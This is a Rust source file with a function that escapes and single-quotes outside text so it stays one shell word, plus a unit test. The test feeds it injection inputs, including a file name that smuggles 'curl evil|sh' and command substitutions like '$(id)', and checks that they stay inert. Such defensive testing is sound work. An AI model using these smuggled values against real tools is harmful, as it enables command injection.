//! Words of commands that people copy into a shell.

use std::ffi::OsStr;

use super::escape::escape;

/// A text from outside as one word of a command: it can begin neither another command nor another
/// line. A name with control characters is shown, but no longer names its file.
pub fn word(text: impl AsRef<OsStr>) -> String {
    let text = text.as_ref().to_string_lossy();
    let text = escape(&text);
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        text.into_owned()
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_is_one_word_for_every_shell() {
        assert_eq!(word("/etc/a-b.toml"), "/etc/a-b.toml");
        assert_eq!(
            word("/etc/x.toml\ncurl evil|sh"),
            r"'/etc/x.toml\ncurl evil|sh'"
        );
        for text in ["", "a b", "a&b", "$(id)", "it's", "`id`", "~root", "*"] {
            let script = format!("printf %s {}", word(text));
            let output = std::process::Command::new("sh")
                .args(["-c", &script])
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(output.stdout).unwrap(), text, "{script}");
        }
    }
}
